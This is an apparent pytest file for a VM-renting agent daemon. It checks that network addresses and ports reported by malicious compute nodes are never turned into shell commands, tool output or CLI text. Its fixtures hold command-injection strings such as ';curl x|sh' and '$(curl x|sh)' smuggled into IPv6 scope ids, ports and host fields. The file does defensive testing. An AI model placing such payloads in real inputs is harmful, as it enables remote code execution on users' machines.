"""What CRNs say of addresses, ports and themselves never reaches a shell, a tool's answer or a screen (rules.md 18)."""

import asyncio
import json
from collections import Counter
from typing import Any

import pytest

from aleph_agentd.domain.errors import Refusal
from aleph_agentd.tools.toolbox import ALL
from support import cli
from support.daemon import DaemonProcess, eventually
from support.devnet import DevnetProcess

POOL = "/v2/about/executions/list"
EVIL = ";curl x|sh"
HERE = "127.0.0.1"
SCOPED = f"2a01:4f8::1%{EVIL}"
LIES: tuple[dict[str, Any], ...] = (
    {"ipv6_ip": SCOPED, "ipv6": SCOPED},
    {"host_ipv4": f"{HERE}{EVIL}\ncurl x|sh", "ipv6_ip": "::1\ncurl x|sh", "ipv6": f"::1]{EVIL}"},
    {"host": f"22{EVIL}", "host_ipv4": SCOPED, "ipv6_ip": "fe80::1%$(curl x|sh)"},
)
"""One for each CRN. The first one's VM can be logged in to; the others' never get an address."""
LINES = (
    ["vms"],
    ["vms", "--json"],
    ["vm", "{vm}"],
    ["vm", "{vm}", "--json"],
    ["ssh", "{vm}", "--json"],
    ["status"],
    ["status", "--json"],
    ["nodes"],
    ["nodes", "--json"],
    ["events", "--since", "0", "--no-follow"],
    ["doctor", "--json"],
    ["audit"],
)


def said(daemon: DaemonProcess, *vms: str) -> str:
    """All that the command line says of VMs and their CRNs."""
    lines = [[word.format(vm=vm) for word in line] for line in LINES for vm in vms]
    whole = [["aleph-agentctl", *line] for line in dict.fromkeys(map(tuple, lines))]
    return "\n".join(text for _, text in cli.run(whole, daemon.environment, daemon.folder))


async def answers(daemon: DaemonProcess, vm: str) -> str:
    """All that the tools say of it, refusals as well."""
    calls: list[tuple[str, dict[str, Any]]] = [
        ("aleph_wait_vm", {"item_hash": vm, "timeout_s": 1}),
        ("aleph_list_my_vms", {}),
        ("aleph_check_balance", {}),
        ("aleph_list_crns", {}),
        ("aleph_vm_run", {"item_hash": vm, "command": "true"}),
        ("aleph_vm_copy", {"item_hash": vm, "path": "a", "content": "x" * 9}),
        ("aleph_extend_vm", {"item_hash": vm, "additional_hours": 0.1}),
        ("aleph_vm_power", {"item_hash": vm, "action": "reboot"}),
        ("aleph_spend_report", {}),
    ]
    assert {name for name, _ in calls} <= {tool.name for tool in ALL}
    texts = []
    for name, arguments in calls:
        try:
            texts.append(
                json.dumps(await daemon.control("tools.call", {"name": name, "arguments": arguments}))
            )
        except Refusal as refusal:
            texts.append(f"{refusal.message} {refusal.hint}")
    return "\n".join(texts)


async def test_a_crn_that_lies_about_an_address_is_given_no_ssh_command(net: DevnetProcess) -> None:
    """Not by a tool, not by the command line, and not by what is kept of it."""
    for crn, lies in zip(net.crns, LIES, strict=True):
        net.fault({"lies": lies}, node=crn["hash"], path=POOL)
    with DaemonProcess(net, environment={"ALEPH_AGENT_MAX_CONCURRENT_VMS": "5"}) as daemon:
        wanted = [
            {"name": f"box-{number}", "ttl_hours": 1, "crn_hash": crn["hash"]}
            for number, crn in enumerate(net.crns)
        ]
        first, *creating = [asyncio.create_task(daemon.call("aleph_create_vm", one)) for one in wanted]
        made = await first
        assert (made["ipv6"], made["ssh_command"][:7]) == ("", "ssh -p ")
        assert "curl" not in json.dumps(made)
        await eventually(lambda: _asked(net), "each CRN is asked for an address")
        rows = await daemon.rows("live")
        for create in creating:
            create.cancel()  # it waits for an address, which never comes
        assert sorted(row["ssh_command"] for row in rows) == ["", "", made["ssh_command"]]
        hashes = [row["item_hash"] for row in rows]
        told = [
            *[await answers(daemon, one) for one in hashes],
            await asyncio.to_thread(said, daemon, *hashes),
        ]
        assert [text for text in told if "curl" in text] == []
        assert "curl" not in json.dumps(await daemon.rows())


def _asked(net: DevnetProcess) -> bool:
    """Whether each CRN has told its lie, and so often that one that was kept would be seen."""
    pools = Counter(one["node"] for one in net.requests() if one["path"] == POOL)
    return all(pools[crn["hash"]] >= (1 if crn == net.crns[0] else 3) for crn in net.crns)


async def test_a_crn_whose_url_would_run_is_no_crn(net: DevnetProcess) -> None:
    """Neither listed, nor rented from, nor told of. All forms of it: tests/contract/test_network_hosts.py."""
    net.fault({"lies": {"address": f"http://[{SCOPED}]:80"}}, path="/crns.json")
    with DaemonProcess(net) as daemon:
        listed = await daemon.call("aleph_list_crns")
        assert listed["crns"] == []
        with pytest.raises(Refusal) as refused:
            await daemon.call("aleph_create_vm", {"name": "box", "crn_hash": net.crns[0]["hash"]})
        assert "curl" not in f"{refused.value.message} {refused.value.hint}"
        assert "curl" not in await answers(daemon, "box")
        assert "curl" not in await asyncio.to_thread(said, daemon, "box")
